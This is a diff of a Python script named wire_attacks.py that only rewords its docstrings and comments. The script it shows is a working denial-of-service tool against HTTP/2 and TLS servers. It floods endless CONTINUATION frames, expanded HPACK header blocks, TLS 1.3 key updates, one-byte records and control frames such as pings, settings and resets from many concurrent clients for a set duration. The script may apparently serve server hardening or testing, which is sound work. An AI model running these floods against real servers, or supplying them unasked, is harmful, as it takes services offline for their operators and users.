@@ -1,17 +1,18 @@
-"""Clients that keep every rule of HTTP/2 and TLS, and cost far more than they send; a program of its own.
+"""Clients that obey every rule of HTTP/2 and TLS, but cost far more than they send. This is a program.
 
     python wire_attacks.py KIND HOST PORT CLIENTS SECONDS
 
-    outbound        HEADERS without end, and nothing is read: every refused stream leaves a frame that waits
-    expanded        header blocks of 31 KiB, each naming a field of 4,000 bytes 31,000 times
-    key_updates     TLS 1.3 key updates and nothing else
+    outbound        sends HEADERS without end and reads nothing: every refused stream leaves a frame that waits
+    expanded        header blocks of 31 KiB, each referring to a field of 4,000 bytes 31,000 times
+    key_updates     only TLS 1.3 key updates
     small_records   the body of a request in TLS records of one byte
 
     pings, settings, windows, priorities, unknown, empty_data, resets
-                    frames of HTTP/2 that bring no request, as many as go into the socket
+                    HTTP/2 frames that begin no request, as many as the socket accepts
     continuations   a header block that never ends, in empty pieces
 
-Prints one line when all clients are there, and at the end one of JSON. A client whose connection has ended opens the next.
+Prints one line when all clients are connected, and at the end a line of JSON. A client opens a new connection when the
+server has ended the old one.
 """
 
 import ctypes
@@ -34,15 +35,15 @@ SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
 REQUEST_BLOCK = b"\x82\x86\x84\x01\x01h"
 EXPANDED_COUNT = 31_000
 EXPANDED_SIZE = 4_000 - 33
-# So that four clients send what was measured: 0.73 MB/s together.
+# With this interval, four clients together send the measured 0.73 MB/s.
 EXPANDED_INTERVAL_SECONDS = 0.17
-# What the first connection of a client sends is made before the clock starts; later ones are to end soon.
+# The data of a client's first connection is made before the clock starts. Later connections should end soon.
 RECORDS_AT_FIRST = 200_000
 BODY = 60_000
 BODIES_AT_FIRST = 8
 RECORDS_LATER = 1_500
 PIECE_SIZE = 64 * 1024
-# Answers that are not read, 50 in a batch: more than the kernel keeps for a client with a small window.
+# Answers that are not read, 50 per batch: more than the kernel buffers for a client with a small window.
 ANSWERED_BATCHES = 60
 ANSWERED_INTERVAL_SECONDS = 0.01
 
@@ -82,7 +83,8 @@ def connect(address: tuple[str, int], receive_size: int | None = None) -> socket
 
 
 def outbound(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
-    """Never reads; the acknowledgement of the server's SETTINGS never comes. Answers fill the socket, then come refused streams."""
+    """Never reads, and never acknowledges the server's SETTINGS. Answers fill the socket, then follow refused
+    streams."""
     connection = connect(address, receive_size=1024)
     windows = frame(4, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(8, 0, 0, struct.pack(">I", 2**31 - 2**16))
     yield connection, PREFACE + windows
@@ -115,7 +117,7 @@ def expanded(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.
 
 
 def drain(connection: socket.socket) -> None:
-    """Reads what is there; a server that has ended the connection raises."""
+    """Reads the bytes that have arrived. Raises an error if the server has ended the connection."""
     connection.setblocking(False)
     try:
         while True:
@@ -150,7 +152,7 @@ def small_records(address: tuple[str, int], is_first: bool) -> Iterator[tuple[so
 
 
 class OpenSSL:
-    """What Python's `ssl` leaves out."""
+    """The OpenSSL functions that Python's `ssl` does not offer."""
 
     def __init__(self) -> None:
         self.library = ctypes.CDLL(ctypes.util.find_library("ssl"))
@@ -209,7 +211,7 @@ def pieces(connection: socket.socket, data: bytes) -> Iterator[tuple[socket.sock
 
 
 def flood(first: bytes, repeated: bytes):
-    """A client that sends the same bytes as long as they go, and reads what comes."""
+    """A client that sends the same bytes as long as the socket accepts them, and reads the answers."""
 
     def kind(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
         connection = connect(address)
@@ -223,7 +225,7 @@ def flood(first: bytes, repeated: bytes):
 
 
 def numbered(first: bytes, make, step: int = 2):
-    """The same with a new stream in every piece."""
+    """A flood whose pieces each use a new stream."""
 
     def kind(address: tuple[str, int], is_first: bool) -> Iterator[tuple[socket.socket, bytes]]:
         connection = connect(address)
@@ -238,7 +240,7 @@ def numbered(first: bytes, make, step: int = 2):
 
 
 START = PREFACE + SETTINGS + frame(4, 1, 0, b"")
-# A POST without a length, whose body is awaited.
+# A POST without a length: the server waits for its body.
 OPEN_BLOCK = b"\x83\x86\x84\x01\x01h"
 
 
@@ -286,13 +288,13 @@ def attack(kind: str, address: tuple[str, int], are_there: threading.Barrier, en
                     send(connection, data, tally)
                     if time.monotonic() > end[0]:
                         return
-                # All is sent: the server ends the connection, or the time ends.
+                # Everything is sent. Now the server ends the connection, or the time ends.
                 connection.settimeout(max(0.1, end[0] - time.monotonic()))
                 while connection.recv(65536):
                     pass
                 raise ConnectionAbortedError
             except TimeoutError:
-                # Congested: a client that waits costs nothing more.
+                # The connection is congested. A client that waits has no further cost.
                 await_end(connection, end[0], tally)
             except OSError:
                 tally.add(ended=1)
